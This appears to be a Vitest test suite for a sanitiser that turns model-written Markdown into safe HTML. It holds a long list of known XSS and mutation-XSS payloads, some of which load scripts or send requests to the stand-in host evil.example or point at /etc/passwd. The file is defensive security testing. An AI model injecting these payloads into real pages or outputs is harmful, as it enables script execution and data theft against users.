import { describe, expect, it } from 'vitest';
import { blocksOf } from './parse';
import { heldImage, highlighted, sanitize } from './sanitize';

/** What an answer becomes: Markdown and all. */
function shown(text: string): HTMLElement {
  const box = document.createElement('div');
  for (const block of blocksOf(text)) {
    if (block.kind === 'html') box.append(sanitize(block.html));
    else box.append(document.createTextNode(block.code));
  }
  return box;
}

const RAW = String.raw;
/** Known ways of getting script past a sanitiser; among them those of the OWASP list and of mutation XSS. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"//',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
  '<img src=javascript:alert(1)>',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img srcset="https://evil.example/a 1x">',
  '<img src=x style="background:url(https://evil.example/x)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">X</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext></p><img src=x onerror=alert(1)></mtext></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math href="javascript:alert(1)">CLICK</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>',
  '<iframe/onload=alert(1)>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<div style="position:fixed;inset:0;z-index:9999">cover</div>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<input type=image src=https://evil.example/x>',
  '<select autofocus onfocus=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<video poster=https://evil.example/x src=x></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://evil.example/x">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<a href="https://ok.example" ping="https://evil.example">x</a>',
  '<a href="https://ok.example" target="_self">x</a>',
  '<form action="https://evil.example"><button>Sign in</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<isindex action="javascript:alert(1)">',
  '<table background="https://evil.example/x"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<div id="app" name="body">clobber</div>',
  '<img name="getElementById" src="data:image/png;base64,AA==">',
  '<form id="location"><input name="attributes"></form>',
  '<span class="notice md-image toast" data-src="javascript:alert(1)">x</span>',
  '<span class="md-image" data-src="https://evil.example/x.png" data-host="good.example">x</span>',
  '<div contenteditable autofocus onfocus=alert(1)>x</div>',
  '<p onmouseover=alert(1) onpointerenter=alert(1)>x</p>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<p is="custom-element">x</p>',
  '<b slot="x" part="y" popover popovertarget="z">x</b>',
  '<!--><img src=x onerror=alert(1)-->',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '</p><img src=x onerror=alert(1)>',
  '<<img src=x onerror=alert(1)>',
  '<img src=x\u0000onerror=alert(1)>',
  '<a href="https://ok.example"><img src=x onerror=alert(1)></a>',
  '<select><noembed></select><script x="a@b"y="a">',
  '<option><style></option></select><img src=x onerror=alert(1)></style>',
  '<svg><foreignobject><body><iframe onload=alert(1)>',
  '<div><!--<a title="-->&lt;img src=x onerror=alert(1)&gt;">',
  // In Markdown itself.
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](x" onerror="alert(1))',
  '![x](x \'y" onerror=alert(1) z="\')',
  '![" onerror="alert(1)](x)',
  '[" onclick="alert(1)](https://ok.example)',
  '[x](https://ok.example "\\" onclick=\\"alert(1)")',
  '`<img src=x onerror=alert(1)>`',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '- x\n\n      <img src=x onerror=alert(1)>\n',
  '- ```x"onclick=alert(1)\n  <script>alert(1)</script>\n  ```',
  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | c |',
  '> <script>alert(1)</script>',
  '# <img src=x onerror=alert(1)>',
  // In formulas.
  '$<img src=x onerror=alert(1)>$',
  RAW`$\href{javascript:alert(1)}{x}$`,
  RAW`$$\includegraphics{https://evil.example/x}$$`,
  '$"><script>alert(1)</script>$',
  RAW`\(" onclick="alert(1)\)`,
  RAW`\[</span><img src=x onerror=alert(1)>\]`,
  '<span class="md-math" data-tex="\\href{javascript:alert(1)}{x}" onclick=alert(1)>x</span>',
];

const URLS = new Set(['http:', 'https:', 'mailto:', 'tel:']);

/** Everything that could run, load, cover or take part in the page. */
function dangers(box: HTMLElement): string[] {
  const found: string[] = [];
  for (const element of box.querySelectorAll('*')) {
    const name = element.localName;
    if (
      /^(script|style|iframe|object|embed|applet|svg|math|form|button|select|textarea|template|link|meta|base|video|audio|source|noscript|title|body|frame)$/.test(
        name,
      ) ||
      name.includes('-')
    ) {
      found.push(`<${name}>`);
    }
    if (element.namespaceURI !== 'http://www.w3.org/1999/xhtml')
      found.push(`${name} in ${element.namespaceURI}`);
    for (const { name: attribute, value } of element.attributes) {
      if (
        /^on|^(style|id|name|srcset|srcdoc|action|formaction|background|poster|ping|is|slot|part|xlink:href|contenteditable|autofocus|popover.*)$/i.test(
          attribute,
        )
      ) {
        found.push(`${name} ${attribute}=${value}`);
      }
      if (attribute === 'href') {
        if (!URLS.has(new URL(value, location.href).protocol)) found.push(`${name} href=${value}`);
        if (element.getAttribute('target') !== '_blank') found.push('a link that does not open elsewhere');
        if (!/noopener/.test(element.getAttribute('rel') ?? '')) found.push('a link without noopener');
      }
      if (attribute === 'src') {
        if (!/^data:image\//.test(value)) found.push(`${name} src=${value}`);
      }
    }
    if (
      name === 'input' &&
      (element.getAttribute('type') !== 'checkbox' || !element.hasAttribute('disabled'))
    )
      found.push('an input');
    for (const one of element.classList)
      if (!/^(language-.*|md-math|md-table|md-image)$/.test(one)) found.push(`class ${one}`);
  }
  return found;
}

describe('what a model writes', () => {
  it.each(PAYLOADS)('is harmless: %s', (payload) => {
    expect(dangers(shown(payload))).toEqual([]);
    expect(dangers(shown(`Some text ${payload} and more\n\n${payload}`))).toEqual([]);
    // And still harmless when it is read once more, which is where mutations strike.
    const again = document.createElement('div');
    again.append(sanitize(shown(payload).innerHTML));
    expect(dangers(again)).toEqual([]);
  });

  it('is harmless at every length it has while it is written', () => {
    for (const payload of PAYLOADS) {
      for (let length = 1; length < payload.length; length += 7) {
        expect(dangers(shown(payload.slice(0, length)))).toEqual([]);
      }
    }
  }, 60_000);

  it('never runs', async () => {
    const box = shown(PAYLOADS.join('\n\n'));
    let ran = 0;
    (globalThis as { alert?: unknown }).alert = () => (ran += 1);
    document.body.append(box);
    await new Promise((resolve) => setTimeout(resolve, 20));
    box.remove();
    expect(ran).toBe(0);
  });

  it('keeps what is meant to be there', () => {
    const box = shown(
      '**b** _i_ ~~s~~ `c` <kbd>k</kbd> H<sub>2</sub>O\n\n- [x] done\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n<details><summary>s</summary>x</details>',
    );
    for (const part of [
      'strong',
      'em',
      'del',
      'code',
      'kbd',
      'sub',
      'li input[type=checkbox][disabled][checked]',
      '.md-table table td[align=center]',
      'details summary',
    ]) {
      expect(box.querySelector(part), part).not.toBeNull();
    }
  });
});

describe('images', () => {
  it('of other hosts wait for a click', () => {
    const box = shown('![A whale](https://images.example.org/w.jpg)');
    expect(box.querySelector('img')).toBeNull();
    const held = box.querySelector<HTMLElement>('.md-image');
    expect(held?.dataset).toMatchObject({
      src: 'https://images.example.org/w.jpg',
      host: 'images.example.org',
      alt: 'A whale',
    });
    const image = heldImage(held as HTMLElement);
    expect(image.src).toBe('https://images.example.org/w.jpg');
    expect(image.referrerPolicy).toBe('no-referrer');
  });

  it('within the text are shown, and nothing is asked of our own host', () => {
    const box = shown('![a](/files/a.png) ![b](data:image/png;base64,iVBORw0KGgo=) ![c](data:text/html,x)');
    expect([...box.querySelectorAll('img')].map((image) => image.getAttribute('src'))).toEqual([
      'data:image/png;base64,iVBORw0KGgo=',
    ]);
    expect(box.textContent).toContain('a');
    expect(shown('<img src="/auth/me?1"><img src="../credits/balance">').querySelector('img')).toBeNull();
  });

  it('are of the host that is named, whatever the answer says', () => {
    const box = shown('<img src="https://user:x@evil.example/x.png" data-host="good.example">');
    expect(box.querySelector<HTMLElement>('.md-image')?.dataset.host).toBe('evil.example');
    expect(shown('![x](//evil.example/x.png)').querySelector('img')).toBeNull();
    expect(shown('<img src="/\\evil.example/x.png">').querySelector('img')).toBeNull();
  });
});

describe('coloured code', () => {
  it('is spans and text, and nothing else', () => {
    const box = document.createElement('div');
    box.append(
      highlighted(
        '<span class="hljs-tag">&lt;<span class="hljs-name">b</span>&gt;</span> &amp;lt; <img src=x onerror=alert(1)>',
      ),
    );
    expect(box.textContent).toBe('<b> &lt; <img src=x onerror=alert(1)>');
    expect([...box.querySelectorAll('*')].map((element) => element.outerHTML.split('>')[0])).toEqual([
      '<span class="hljs-tag"',
      '<span class="hljs-name"',
    ]);
  });
});
